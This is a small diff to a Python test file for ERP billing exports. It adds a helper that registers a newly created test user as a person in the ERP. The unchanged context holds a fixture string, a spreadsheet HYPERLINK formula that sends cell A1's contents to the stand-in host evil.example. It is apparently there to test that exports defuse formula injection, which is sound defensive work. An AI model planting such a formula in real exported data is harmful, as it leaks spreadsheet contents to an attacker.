@@ -10,7 +10,7 @@ from typing import Any
 
 from devstack.stack import Stack
 from tests.erp_billing.helpers import fixed, issued, line, pay, today
-from tests.support import Api
+from tests.support import Api, person_of
 
 FORMULA_COMPANY = '=HYPERLINK("https://evil.example?"&A1,"Click")'
 
@@ -27,6 +27,7 @@ def _real_user(admin: Api, stack: Stack, role: str, name: str) -> tuple[dict[str
     email = f"export-{uuid.uuid4().hex[:8]}@example.com"
     user = admin.ok("POST", "/api/auth/users", 201,
                     json={"email": email, "password": "exports are plain 42", "role": role, "full_name": name})
+    person_of(admin, user["id"])  # their time is booked once the ERP knows them
     return user, Api.login(stack, email, "exports are plain 42")
 
 
